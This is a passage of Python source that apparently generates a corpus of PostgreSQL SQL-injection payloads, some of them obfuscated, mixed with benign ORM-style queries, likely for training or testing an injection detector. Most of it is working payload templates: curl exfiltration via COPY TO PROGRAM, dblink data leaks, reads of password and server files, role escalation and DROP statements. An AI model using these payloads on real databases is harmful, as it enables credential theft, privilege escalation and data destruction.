            ("alter_owner", "ALTER TABLE %s OWNER TO %s" % (t, r.choice(["PUBLIC", nm, "current_user"]))), ("revoke_all", "REVOKE ALL ON %s FROM PUBLIC" % t),
            ("grant_server_files", "GRANT pg_read_server_files TO %s" % r.choice(["current_user", nm, "PUBLIC"])), ("drop_database", "DROP DATABASE IF EXISTS %s" % r.choice(["postgres", "template1", "app"])),
            ("terminate_backends", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename <> current_user"),
            ("lock_table", "LOCK TABLE %s IN ACCESS EXCLUSIVE MODE" % t), ("create_rule_nothing", "CREATE RULE %s AS ON INSERT TO %s DO INSTEAD NOTHING" % (nm, t)),
            ("disable_rls", "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t), ("replication_role", "SET session_replication_role = replica"),
            ("set_config_log", "SELECT set_config('log_statement', 'none', false)"), ("create_table_as_shadow", "CREATE TABLE %s AS SELECT * FROM pg_shadow" % nm),
            ("alter_default_privs", "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC"), ("create_policy_true", "CREATE POLICY %s ON %s USING (true)" % (nm, t)),
            ("stored_drop_table", "DROP TABLE %s" % t), ("stored_truncate", "TRUNCATE %s CASCADE" % t)]] + [
            ("row_extra", "row", row_of("'%s'" % w), PG), ("row_shadow_subselect", "row", lambda n: ", ".join(["(SELECT passwd FROM pg_shadow LIMIT 1)"] + ["NULL"] * (n - 1)), PG),
            ("conflict_update_returning", "conflict", "ON CONFLICT DO NOTHING RETURNING (SELECT string_agg(%s, ',') FROM %s)" % (p, t), PG)]
    if fam == "oob_file_program":
        return [(n, m, c, PG) for n, m, c in [
            ("read_binary_file", "stack", "SELECT pg_read_binary_file('%s')" % f), ("read_file_missing_ok", "stack", "SELECT pg_read_file('%s', 0, %d, true)" % (f, r.choice([100, 2048]))),
            ("copy_from_file_temp", "stack", "CREATE TEMP TABLE %s (line text); COPY %s FROM '%s'; SELECT * FROM %s" % (nm, nm, f, nm)),
            ("copy_to_program_curl", "stack", "COPY (SELECT %s FROM %s) TO PROGRAM 'curl -d @- http://%s/'" % (p, t, host)),
            ("copy_from_program", "stack", "CREATE TEMP TABLE %s (o text); COPY %s FROM PROGRAM '%s'" % (nm, nm, pc)),
            ("copy_to_file", "stack", "COPY %s TO '/tmp/%s.csv' WITH (FORMAT csv)" % (t, nm)), ("lo_from_bytea_export", "stack", "SELECT lo_from_bytea(%d, 'x'); SELECT lo_export(%d, '/tmp/%s')" % (oid, oid, nm)),
            ("lo_import_get", "stack", "SELECT lo_get(lo_import('%s'))" % f), ("dblink_query", "stack", "SELECT * FROM dblink('host=%s user=x dbname=x', 'SELECT 1') AS z(a int)" % host),
            ("dblink_exec_exfil", "stack", "SELECT dblink_exec('host=%s dbname=' || (SELECT %s FROM %s LIMIT 1), 'SELECT 1')" % (ip, p, t)),
            ("ls_logdir", "stack", "SELECT pg_ls_logdir()"), ("ls_waldir", "stack", "SELECT * FROM pg_ls_waldir()"), ("current_logfile", "stack", "SELECT pg_read_file(pg_current_logfile())"),
            ("fdw_server", "stack", "CREATE SERVER %s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '%s', dbname 'x')" % (nm, host)),
            ("archive_command", "stack", "ALTER SYSTEM SET archive_command = '%s'; SELECT pg_reload_conf()" % pc),
            ("stat_file_cond", "cond", "AND (pg_stat_file('%s')).size > 0" % f), ("read_binary_cond", "cond", "AND length(pg_read_binary_file('%s')) > %d" % (f, a)),
            ("ls_dir_cond", "cond", "AND 'PG_VERSION' IN (SELECT pg_ls_dir('.'))"),
            ("read_file_union", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "pg_read_file('%s')" % f)),
            ("ls_dir_union", "union", "UNION SELECT %s" % nulls(r.randint(1, 4), 0, "pg_ls_dir('%s')" % r.choice(["pg_wal", "global", "/etc", "log"]))),
            ("read_file_repl", "repl", "(SELECT octet_length(pg_read_binary_file('%s')))" % f), ("read_file_concat", "concat", "pg_read_file('%s', 0, 200)" % f),
            ("assign_read_file", "assign", "{col} = pg_read_file('%s', 0, 200)" % f), ("row_read_file", "row", row_of("pg_read_file('%s')" % f)),
            ("stored_read_file", "stack", "SELECT pg_read_file('%s')" % f), ("stored_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM '%s'" % pc)]]
    if fam == "time_pg_sleep":
        return [(n, m, c, PG) for n, m, c in [
            ("and_sleep_until", "cond", "AND (SELECT 1 FROM pg_sleep_until(now() + interval '%d seconds')) IS NULL" % s), ("or_sleep_for", "cond", "OR (SELECT pg_sleep_for('%d seconds')) IS NULL" % s),
            ("and_sleep_text", "cond", "AND pg_sleep(%d)::text = ''" % s), ("and_sleep_in", "cond", "AND 1 IN (SELECT 1 FROM pg_sleep(%d))" % s),
            ("and_probe_sleep_case", "cond", "AND 0 = (CASE WHEN %s THEN (SELECT 0 FROM pg_sleep(%d)) ELSE 0 END)" % (pe, s)),
            ("or_sleep_coalesce", "cond", "OR coalesce(pg_sleep(%d)::text, 'x') = 'x'" % s), ("and_heavy_md5", "cond", "AND (SELECT count(md5(g::text)) FROM generate_series(1, %d000000) g) > 0" % s),
            ("and_advisory_lock", "cond", "AND pg_advisory_lock(%d) IS NOT NULL" % b), ("stack_sleep_until", "stack", "SELECT pg_sleep_until(now() + interval '%d seconds')" % s),
            ("stack_sleep_perform", "stack", "SELECT pg_sleep(%d)" % s), ("stack_probe_sleep", "stack", "SELECT CASE WHEN %s THEN pg_sleep(%d) END" % (pe, s)),
            ("union_sleep", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "(SELECT 'z' FROM pg_sleep(%d))" % s)),
            ("order_sleep", "order", "(SELECT 0 FROM pg_sleep(%d))" % s), ("repl_sleep", "repl", "(SELECT %d FROM pg_sleep_for('%d seconds'))" % (a, s)),
            ("concat_sleep", "concat", "(SELECT '' FROM pg_sleep(%d))" % s), ("assign_sleep", "assign", "{col} = (SELECT {col} FROM pg_sleep(%d))" % s),
            ("interval_sleep", "iexpr", "(SELECT interval '1 second' FROM pg_sleep(%d))" % s), ("jkey_sleep", "jkey", "(SELECT '' FROM pg_sleep(%d))" % s),
            ("stored_and_sleep", "cond", "AND 1=(SELECT 1 FROM pg_sleep(%d))" % s)]] + [("row_sleep", "row", row_of("(SELECT NULL FROM pg_sleep(%d))" % s), PG)]
    if fam == "boolean_blind":
        pn, pex = probe_named(r)
        pn2, pex2 = probe_named(r, "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who))
        return [("and_" + pn, "cond", "AND " + pex, PG), ("or_not_" + pn, "cond", "AND NOT (" + pex + ")", PG), ("loot_" + pn2, "cond", "AND " + pex2, PG),
                ("stored_" + pn2, "cond", "AND " + pex2, PG)] + [(n, "cond", c, PG) for n, c in [
                ("and_num_eq", "AND %d=%d" % (a, a)), ("and_num_ne", "AND %d=%d" % (a, a + 2)), ("and_exists_loot", "AND EXISTS (SELECT 1 FROM %s WHERE %s = '%s')" % (t, u, who)),
                ("and_count_tables", "AND (SELECT count(*) FROM information_schema.tables) > %d" % (a * 3)), ("and_rolsuper", "AND (SELECT rolsuper FROM pg_roles WHERE rolname = current_user)"),
                ("and_has_role", "AND pg_has_role(current_user, '%s', 'MEMBER')" % role), ("and_is_superuser_setting", "AND current_setting('is_superuser') = 'on'"),
                ("and_dblink_installed", "AND EXISTS (SELECT 1 FROM pg_proc WHERE proname = 'dblink')"), ("and_version_num", "AND current_setting('server_version_num')::int >= %d0000" % r.randint(9, 17)),
                ("and_case_eq", "AND 'a' = (SELECT CASE WHEN (%d=%d) THEN 'a' ELSE 'b' END)" % (a, a))]] + [
            ("assign_probe", "assign", "{col} = (CASE WHEN %s THEN {col} ELSE NULL END)" % pe, PG), ("row_probe", "row", row_of("(CASE WHEN %s THEN 'y' ELSE 'n' END)" % pe), PG),
            ("order_probe", "order", "(CASE WHEN %s THEN 1 ELSE 1/(SELECT 0) END)" % pe, PG), ("jkey_probe", "jkey", "(CASE WHEN %s THEN 'y' ELSE 'n' END)" % pe, PG)]
    if fam == "error_cast":
        return [(n, "cond", c, PG) for n, c in [
            ("query_to_xml_int", "AND 1=query_to_xml('SELECT %s FROM %s', true, true, '')::text::int" % (p, t)), ("smallint_cast", "AND %s::smallint = 1" % x),
            ("float8_cast", "AND CAST(%s AS float8) = 1" % x), ("inet_cast", "AND %s::inet IS NULL" % x), ("macaddr_cast", "AND %s::macaddr IS NULL" % x),
            ("date_cast", "AND CAST(%s AS date) IS NULL" % x), ("boolean_cast", "AND %s::boolean" % x), ("oid_cast", "AND %s::oid > 0" % x),
            ("regtype_cast", "AND %s::regtype IS NULL" % x), ("bit_cast", "AND %s::bit(4) IS NULL" % x), ("to_number_cast", "AND to_number(%s, '999') = 1" % x),
            ("xmlparse_error", "AND xmlparse(content '<' || %s) IS NULL" % x), ("array_agg_int", "AND array_to_string(array(SELECT %s FROM %s), ',')::int = 1" % (p, t)),
            ("make_date_error", "AND make_date(length(%s) * 1000, 13, 1) IS NULL" % x), ("div_zero_case", "AND 1/(CASE WHEN %s THEN 0 ELSE 1 END) = 1" % pe),
            ("json_cast_int", "AND (json_build_object('v', %s)->>'v')::int = 1" % x), ("stored_smallint_cast", "AND %s::smallint = 1" % x)]] + [
            ("repl_numeric_cast", "repl", "%s::numeric" % x, PG), ("concat_int_cast", "concat", "CAST(%s AS int)::text" % x, PG), ("order_bigint_cast", "order", "%s::bigint" % x, PG),
            ("assign_smallint_cast", "assign", "{col} = %s::smallint" % x, PG), ("row_date_cast", "row", row_of("CAST(%s AS date)" % x), PG),
            ("interval_text_cast", "iexpr", "%s::interval" % x, PG), ("jkey_numeric_cast", "jkey", "%s::numeric::text" % x, PG)]
    if fam == "dollar_quote":
        tg = r.choice(OPEN_TAGS)
        D = lambda v: tg + v + tg
        gt = r.choice(GUESSED_TAGS)
        n = r.randint(1, 4)
        return [
            ("or_dollar_eq", "cond", "OR %s = %s" % (D(w), D(w)), PG), ("or_dollar_ilike", "cond", "OR %s ILIKE %s" % (D(w.upper()), D(w[0] + "%")), PG),
            ("and_dollar_role", "cond", "AND pg_has_role(%s, 'MEMBER')" % D(role), PG), ("or_dollar_in", "cond", "OR %s IN (%s, %s)" % (D(w), D(w2), D(w)), PG),
            ("dollar_insert_admin", "stack", "INSERT INTO %s (%s, %s) VALUES (%s, %s)" % (t, u, p, D(nm), D(rword(r, 8))), PG),
            ("dollar_alter_role", "stack", "ALTER ROLE %s PASSWORD %s" % (r.choice(["postgres", "museum_owner"]), D(rword(r, 9))), PG),
            ("dollar_copy_program", "stack", "COPY %s TO PROGRAM %s" % (t, D(pc)), PG), ("dollar_read_file", "stack", "SELECT pg_read_file(%s, 0, 500)" % D(f), PG),
            ("dollar_create_function", "stack", "CREATE FUNCTION %s() RETURNS void LANGUAGE sql AS %s" % (nm, D("DELETE FROM %s" % t) if tg != "$$" else "$f$DELETE FROM %s$f$" % t), PG),
            ("union_dollar", "union", "UNION ALL SELECT %s" % nulls(n, r.randrange(n), "%s || %s" % (D("#"), e)), PG),
            ("dollar_concat", "concat", "%s || %s || %s" % (D("["), e, D("]")), PG), ("dollar_repl", "repl", "(SELECT length(%s))" % D(w), PG),
            ("dollar_assign", "assign", "{col} = %s" % D(w), PG), ("dollar_row", "row", row_of(D(w2)), PG)] + [
            ("tag_guess_" + (gt.strip("$").lower() or "empty"), "stack", "SELECT %s%s%s" % (gt, w, gt), PG)]
    if fam == "e_escape":
        hx2 = lambda v: "".join("\\x%02X" % ord(c) for c in v)
        oc = lambda v: "".join("\\%o" % ord(c) for c in v)
        uc = lambda v: "".join("\\u%04x" % ord(c) for c in v)
        return [
            ("e_unicode_quote_or", "cond", "OR E'\\u0027' = chr(39)", PG), ("e_hex_upper_eq", "cond", "OR E'%s' = '%s'" % (hx2(w), w), PG),
            ("e_user_unicode", "cond", "AND current_user = E'%s'" % uc(role), PG), ("e_octal_short_like", "cond", "OR '%s' LIKE E'%s%%'" % (w, oc(w[:2])), PG),
            ("e_doubled_backslash", "cond", "OR E'\\\\' = chr(92)", PG), ("uamp_escape_char", "cond", "OR U&'!%04x%s' UESCAPE '!' = '%s'" % (ord(w[0]), w[1:], w), PG),
            ("e_unicode_copy_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % uc(pc), PG), ("e_hex_lo_import", "stack", "SELECT lo_import(E'%s')" % hx2(f), PG),
            ("e_octal_truncate", "stack", "TRUNCATE %s; SELECT E'%s'" % (t, oc(w)), PG),
            ("e_union_unicode", "union", "UNION ALL SELECT %s" % nulls(r.randint(1, 4), 0, "E'\\u003a' || %s" % e), PG),
            ("e_concat_tab", "concat", "E'\\t' || %s" % x, PG), ("e_interval_octal", "iexpr", "E'\\61 hour'::interval", PG),
            ("e_assign_unicode", "assign", "{col} = E'%s'" % uc(w), PG), ("e_row_octal", "row", row_of("E'%s'" % oc(w)), PG)]
    if fam == "plpgsql_do_exec":
        tg = r.choice(DO_TAGS)
        Bq = lambda body: tg + " " + body + " " + tg
        evil = r.choice(["DROP TABLE %s" % t, "ALTER ROLE %s SUPERUSER" % r.choice(["museum_owner", nm]), "CREATE ROLE %s SUPERUSER LOGIN PASSWORD 'p'" % nm,
                         "GRANT pg_execute_server_program TO PUBLIC", "COPY (SELECT 1) TO PROGRAM '%s'" % pc.replace("'", ""), "DELETE FROM %s" % t,
                         "ALTER TABLE %s DISABLE ROW LEVEL SECURITY" % t])
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute_format_s", "DO %s" % Bq("BEGIN EXECUTE format('%%s', '%s'); END" % sq(evil))),
            ("do_execute_concat_ws", "DO %s" % Bq("BEGIN EXECUTE concat_ws(' ', %s); END" % ", ".join("'%s'" % sq(wd) for wd in evil.split(" ")))),
            ("do_execute_chr_array", "DO %s" % Bq("BEGIN EXECUTE array_to_string(ARRAY[%s], ''); END" % ", ".join("chr(%d)" % ord(c) for c in evil[:20]) + "" if len(evil) <= 20 else
                                                  "BEGIN EXECUTE array_to_string(ARRAY[%s], '') || '%s'; END" % (", ".join("chr(%d)" % ord(c) for c in evil[:20]), sq(evil[20:])))),
            ("do_execute_hex", "DO %s" % Bq("BEGIN EXECUTE convert_from('\\x%s'::bytea, 'UTF8'); END" % evil.encode().hex())),
            ("do_execute_translate", "DO %s" % Bq("BEGIN EXECUTE upper('%s'); END" % sq(evil.lower()))),
            ("do_loop_drop_tables", "DO %s" % Bq("DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP EXECUTE 'DROP TABLE ' || quote_ident(r.tablename) || ' CASCADE'; END LOOP; END")),
            ("do_perform_sleep", "DO %s" % Bq("BEGIN PERFORM pg_sleep(%d); END" % s)),
            ("do_dblink_exec", "DO %s" % Bq("BEGIN PERFORM dblink_exec('dbname=postgres', '%s'); END" % sq(sq(evil)))),
            ("do_raise_exception_loot", "DO %s" % Bq("BEGIN RAISE EXCEPTION '%%', (SELECT string_agg(%s, ',') FROM %s); END" % (p, t))),
            ("create_procedure_call", "CREATE PROCEDURE %s() LANGUAGE plpgsql AS %s; CALL %s()" % (nm, Bq("BEGIN EXECUTE '%s'; END" % sq(evil)), nm)),
            ("create_function_security_definer", "CREATE FUNCTION %s() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS %s; SELECT %s()" % (nm, Bq("BEGIN EXECUTE '%s'; END" % sq(evil)), nm)),
            ("create_sql_function", "CREATE OR REPLACE FUNCTION %s() RETURNS void AS %s LANGUAGE sql; SELECT %s()" % (nm, Bq(evil) if tg != "$$" else "$$ %s $$" % evil, nm)),
            ("stored_do_execute", "DO %s" % Bq("BEGIN EXECUTE '%s'; END" % sq(evil)))]]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("session_user", "session_user"), ("inet_server_addr", "inet_server_addr()::text"), ("data_directory", "current_setting('data_directory')"),
            ("loot_ordered", "(SELECT %s FROM %s ORDER BY 1 LIMIT 1)" % (p, t)), ("loot_where", "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who)),
            ("loot_agg_pipe", "(SELECT string_agg(%s || '=' || %s, '|') FROM %s)" % (u, p, t)), ("authid_first", "(SELECT rolpassword FROM pg_authid WHERE rolcanlogin LIMIT 1)"),
            ("columns_agg", "(SELECT string_agg(column_name, ',') FROM information_schema.columns WHERE table_name = '%s')" % t.lower()),
            ("settings_agg", "(SELECT string_agg(name || '=' || setting, ';') FROM pg_settings WHERE name LIKE '%file%')"), ("sleep_text", "(SELECT pg_sleep(%d))::text" % s),
            ("stored_loot_ordered", "(SELECT %s FROM %s ORDER BY 1 LIMIT 1)" % (p, t)), ("probe_char", "(CASE WHEN %s THEN 'Y' ELSE 'N' END)" % pe)]] + [
            ("assign_authid", "assign", "{col} = (SELECT rolpassword FROM pg_authid LIMIT 1)", PG),
            ("row_loot", "row", row_of("(SELECT string_agg(%s, ',') FROM %s)" % (p, t), "NULL"), PG), ("jkey_loot", "jkey", "(SELECT %s FROM %s ORDER BY 1 LIMIT 1)" % (p, t), PG)]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off, mostly as dev's hand-written rows do."""
    return r.choice(["--", "--", "--", "-- ", "-- ", "-- -", "-- -", "--+", "/*", "-- x", ";--", "; --", "--%s" % rword(r, 3), "-- #", "-- %s" % rword(r, 4)])


def breakout(r, si, orig, mode, core):
    return corpus_kit.slot_breakout(globals(), r, si, orig, mode, core)


def kind_lead_in(knd, orig):
    return corpus_kit.kind_lead_in(knd, orig)


MODES = {"q": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict", "iexpr", "jkey"),
         "e": ("cond", "union", "stack", "repl", "concat", "row", "assign", "returning", "conflict"),
         "d": ("stack", "repl", "concat"), "qi": ("cond", "stack", "order"),
         "n": ("cond", "union", "stack", "repl", "concat", "order", "row", "assign", "returning", "conflict", "frame", "sub"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}
SLOT_MODES = {"row": lambda si: si["row"] and si["lead"] == "INSERT", "conflict": lambda si: si["row"] and si["lead"] == "INSERT",
              "assign": lambda si: si["in_set"], "returning": lambda si: si["dml"], "iexpr": lambda si: si["kind"] == "interval",
              "frame": lambda si: si["frame"] and si["type"] == "n", "sub": lambda si: si["subscript"], "jkey": lambda si: si["jkey"]}


def fitting(si, cores):
    """The cores whose mode has a form for the slot; slot-aimed modes are kept only where they fit and
    weighted up; stored_* cores only (and more often) where a stored value is replayed."""
    out = []
    for c in corpus_kit.fitting(si, cores, MODES):
        if c[1] in SLOT_MODES:
            if SLOT_MODES[c[1]](si):
                out += [c] * 2
        elif c[0].startswith("stored_"):
            if si["second_order"]:
                out += [c] * 8
        else:
            out.append(c)
    return out


# how often a hand-written payload whose statement would not parse is kept anyway (dev.jsonl's rates)
HAND_KEEP_FAIL = {"union": 0.2, "e_escape": 0.05, "obf_nospace": 0.06}


def hand(r, si, fam):
    """A hand-written payload for the slot (corpus_kit.slot_hand), redrawn up to seven times while the statement it
    makes would not parse (plausible), as dev.jsonl's hand-written rows nearly all do."""
    res = None
    for _ in range(8):
        res = corpus_kit.slot_hand(globals(), r, si, fam)
        if res is not None and r.random() < 0.92:
            res = (res[0], tidy(res[1], si["type"])) + res[2:]
        if res is None or plausible_fill(si, res[1]) or r.random() < HAND_KEEP_FAIL.get(fam, 0.03):
            return res
    return res


def tidy(s, typ):
    """Tabs, line feeds, carriage returns and form feeds outside the payload's literals and comments made single
    spaces, as dev.jsonl's payloads have them outside its whitespace-obfuscation rows (a line feed that ends a --
    comment before more payload stays)."""
    segs = segments(s, typ)
    out = []
    for i, (t, e) in enumerate(segs):
        if e:
            lead = ""
            if i > 0 and segs[i - 1][0].startswith("--") and t.lstrip(" \t\r\f").startswith("\n"):
                lead, t = "\n", t.lstrip(" \t\r\f")[1:]
                if not t.strip():
                    lead, t = "", ""
            t = lead + re.sub(r"[\t\n\r\f]+", " ", t)
            t = re.sub(r"  +", " ", t)
        out.append(t)
    return "".join(out)


# ---------------------------------------------------------------- whether a filled template would get through the parser
_OWNER = {}


def slot_owner(si):
    """The (template, slot) whose slot_info is si (slot_info hands out one dict per slot)."""
    if not _OWNER:
        for t in T:
            for k in t[2]:
                _OWNER[id(slot_info(t, k))] = (t, k)
    return _OWNER[id(si)]


# words that may follow a literal or a number in the templates' clauses
AFTER_VALUE = set("""AND OR AS IS IN NOT LIKE ILIKE SIMILAR BETWEEN ESCAPE UESCAPE THEN ELSE END WHEN FROM FOR COLLATE AT ORDER GROUP HAVING
LIMIT OFFSET FETCH UNION EXCEPT INTERSECT WHERE RETURNING ON USING INTO ASC DESC NULLS WINDOW OVERLAPS ISNULL NOTNULL ROWS ROW ONLY
PRECEDING FOLLOWING DO SET WITH TO RANGE AND SYMMETRIC CROSS JOIN LEFT RIGHT INNER FULL NATURAL DAY HOUR MINUTE SECOND MONTH YEAR
RLIKE XOR DIV MOD REGEXP""".split())


def plausible(sql):
    """A cheap stand-in for PostgreSQL's parser: no unterminated literal, quoted identifier or /* comment, brackets
    that balance, no statement ending on an operator, no two literals or numbers side by side, no word after a
    literal or number that could not follow one, no second WHERE at the same level of one query."""
    depth, prev = 0, None
    wheres = [False]
    for k, v in lex(sql):
        if k in ("US", "UQ") or (k == "C" and v.startswith("/*") and not v.endswith("*/")):
            return False
        if k == "C":
            continue
        if k in ("(", "["):
            depth += 1
            wheres.append(False)
        elif k in (")", "]"):
            depth -= 1
            if depth < 0:
                return False
            wheres.pop()
        elif k == ";":
            if depth or (prev is not None and prev[0] == "O"):
                return False
            wheres = [False]
        elif k == "W":
            if v in ("SELECT", "UNION", "EXCEPT", "INTERSECT", "UPDATE", "DELETE"):
                wheres[-1] = False
            elif v == "WHERE":
                if wheres[-1]:
                    return False
                wheres[-1] = True
            if prev is not None and prev[0] in ("S", "N") and v not in AFTER_VALUE and not (prev[1] == "0" and v.startswith("X")):
                return False
        if prev is not None and k == prev[0] and k in ("S", "N"):
            return False
        prev = (k, v)
    return depth == 0 and (prev is None or prev[0] != "O")


def plausible_fill(si, value):
    tpl, slot = slot_owner(si)
    f = {k: v[1][0] for k, v in tpl[2].items()}
    f[slot] = value
    return plausible(render(tpl, f, raw=(slot,)))


# ---------------------------------------------------------------- obfuscation of a built payload (outside its literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)
    if fam == "obf_case_mix":
        style = r.randrange(6)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return "".join(c.lower() if j % 2 == 0 else c.upper() for j, c in enumerate(w))
            if style == 1:
                return w[:-1].lower() + w[-1:].upper()
            if style == 2:
                return "".join(c.lower() if c.lower() in "aeiou" else c.upper() for c in w)
            if style == 3:
                return "".join(c.upper() if r.random() < 0.5 else c.lower() for c in w)
            if style == 4:
                return w.swapcase()
            return w[:2].upper() + w[2:].lower()
        return "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    if fam == "obf_whitespace":
        pool = ["\t", "\n", "\r\n", "  ", "\t\t", "\n\n", "\r", "\f", " \f ", "\t \n", "     "]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"\(", lambda m: r.choice(["(\t", "(\n", "("]) if r.random() < 0.25 else "(", t)
            return re.sub(r"((?<![<>!:=])=(?![=>])|,)", lambda m: r.choice(["\t", "\n", "\r"]) + m.group(1) + r.choice(["\n", "\t", ""]) if r.random() < 0.35 else m.group(1), t)
        return "".join(ws(t) if e else t for t, e in segs)
    if fam == "obf_inline_comment":
        pool = ["/**/", "/*21*/", "/*!*/", "/* x */", "/*\t*/", "/*/**/*/", "/*+*/", "/**//**/", "/*%s*/" % rword(r, r.randint(2, 6)), "/*\r\n*/", "/*-*/"]
        split_kw = r.random() < 0.12

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            if split_kw:
                t = re.sub(r"\b(SELECT|UNION|WHERE|OR|SLEEP)\b", lambda m: m.group(0)[:-1] + "/**/" + m.group(0)[-1:], t, count=1)
            return re.sub(r"\(", lambda m: "/**/(" if r.random() < 0.3 else "(", t)
        return "".join(ic(t) if e else t for t, e in segs)
    if fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+;~&^@?%*/-]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|NOT|not|SELECT|select|WHEN|when|THEN|then|ELSE|else|IN|in|BY|by|UNION|union|ALL|all) (\d+|true|false|NULL|null|current_user|session_user|now\(\)|version\(\))",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(OR|AND|or|and|IN|in|SELECT|select|THEN|then|ELSE|else|LIKE|like) (')", r"\1\2", t)
            return t
        return without_spaces(segs, typ, squeeze)
    raise KeyError(fam)


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Aoife O'Hanlon", "Harold Pye", "Ines Moreau", "Kwabena Osei", "Rhian Powell", "Tomasz Wiśniewski", "Nell Gwyn-Jones", "Dana Whitfield",
          "Sensei Adams", "Ragnhild Ólafsdóttir", "Mo Rahman", "Seán Mac Giolla"]
TOWNS = ["York", "Edinburgh", "Whitby", "Lincoln", "Chester", "Bath"]
GENERA = ["Acer", "Sorbus", "Quercus", "Betula", "Prunus", "Magnolia"]
T21_TABLES = ["heritage_trams", "tram_rides", "pen_repairs", "bottled_inks", "kayak_trips", "tide_windows", "zip_rides", "zip_waivers", "lb_launches",
              "tree_specimens", "guided_walks", "race_splits", "race_entries", "gemstones", "cutting_jobs", "busking_permits", "noise_complaints",
              "ghost_bookings", "sightings", "game_scores", "laser_vests", "judoka", "mat_bookings", "kit_checks", "saga_events", "engraving_orders",
              "plate_texts", "bmx_laps", "moto_results"]


def complex_gens():
    G, add = registry()

    @add("cx21_crystal_avram_orm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT pen_repairs.id, pen_repairs.ticket_code, pen_repairs.status, pen_repairs.created_at FROM pen_repairs WHERE pen_repairs.id = $1 LIMIT 1",
            "SELECT pen_repairs.id, pen_repairs.pen_model FROM pen_repairs WHERE pen_repairs.status = $1 ORDER BY pen_repairs.created_at DESC LIMIT %d" % r.choice([20, 50]),
            "INSERT INTO nib_grinds(ticket_id, grind, width_mm, created_at, updated_at) VALUES($1, $2, $3, $4, $5) RETURNING *",
            "SELECT COUNT(*) FROM bottled_inks WHERE bottled_inks.maker = $1",
            "UPDATE pen_repairs SET status = $1, updated_at = $2 WHERE pen_repairs.id = %d RETURNING *" % r.randint(1, 9000)])

    @add("cx21_grails_gorm_orm", "complex_orm_generated")
    def _(r):
        n = r.randint(1, 9000)
        return r.choice([
            "select this_.id as id1_3_0_, this_.version as version2_3_0_, this_.fleet_no as fleet_no3_3_0_, this_.livery as livery4_3_0_ from heritage_trams this_ where this_.id=%d" % n,
            "select this_.id as id1_7_0_, this_.route as route2_7_0_ from tram_rides this_ where this_.tram_id=%d order by this_.run_on desc limit %d" % (r.randint(1, 400), r.choice([10, 25])),
            "select count(*) as y0_ from tram_volunteers this_ where this_.role='%s'" % r.choice(["driver", "conductor", "shop", "workshop"]),
            "update heritage_trams set version=%d, livery='%s' where id=%d and version=%d" % (r.randint(2, 40), r.choice(["green and cream", "crimson lake", "wartime grey"]), n, r.randint(1, 39))])

    @add("cx21_directus_knex_orm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "select \"race_entries\".\"id\", \"race_entries\".\"wave\" from \"race_entries\" where \"race_entries\".\"race_id\" = %d order by \"race_entries\".\"id\" asc limit %d" % (r.randint(1, 300), r.choice([25, 100])),
            "select count(*) as \"count\" from \"tri_members\" where (\"tri_members\".\"membership\" = '%s')" % r.choice(["full", "student", "junior", "family"]),
            "insert into \"race_splits\" (\"bike_s\", \"member_id\", \"race_id\", \"run_s\", \"swim_s\") values ($1, $2, $3, $4, $5) returning \"id\"",
            "update \"training_sessions\" set \"title\" = $1, \"date_updated\" = $2 where \"session_id\" in (%s)" % ids(r, r.randint(1, 4), 4000),
            "select \"directus_users\".\"id\", \"directus_users\".\"role\" from \"directus_users\" where \"directus_users\".\"status\" = 'active' and \"directus_users\".\"id\" = $1"])

    @add("cx21_fsharp_racket_orm", "complex_orm_generated")
    def _(r):
        return r.choice([
            "SELECT \"k\".\"member_id\", \"k\".\"kit_item\", \"k\".\"passed\" FROM \"public\".\"kit_checks\" AS \"k\" WHERE (\"k\".\"season\" = %d)" % r.randint(2015, 2026),
            "SELECT s.specimen_id, s.genus, s.species FROM tree_specimens AS s WHERE s.bed_id = %d ORDER BY s.genus, s.species" % r.randint(1, 80),
            "INSERT INTO \"public\".\"shield_register\" (\"member_id\", \"boss_type\", \"diameter_cm\") VALUES (@p0, @p1, @p2)".replace("@p0", "$1").replace("@p1", "$2").replace("@p2", "$3"),
            "SELECT judoka.judoka_id, judoka.name, judoka.belt FROM judoka WHERE judoka.club_id = %d AND judoka.belt IN ('%s', '%s')" % (r.randint(1, 70), r.choice(["orange", "green"]), r.choice(["blue", "brown"]))])

    @add("cx21_builtin_text_json", "complex_builtin_funcs")
    def _(r):
        a, b = sorted(r.sample(range(1, 800), 2))
        w = rword(r, r.randint(4, 8))
        return r.choice([
            "SELECT initcap(colour_name), upper(maker) FROM bottled_inks WHERE ink_id = %d" % a, "SELECT chr(%d) || chr(%d) || chr(%d)" % (65 + a % 26, 97 + b % 26, 48 + a % 10),
            "SELECT CAST(carat AS numeric(6,3)), carat::text FROM gemstones WHERE stone_id = %d" % b, "SELECT to_char(starts_at, 'Dy DD Mon HH24:MI') FROM guided_walks WHERE walk_id = %d" % a,
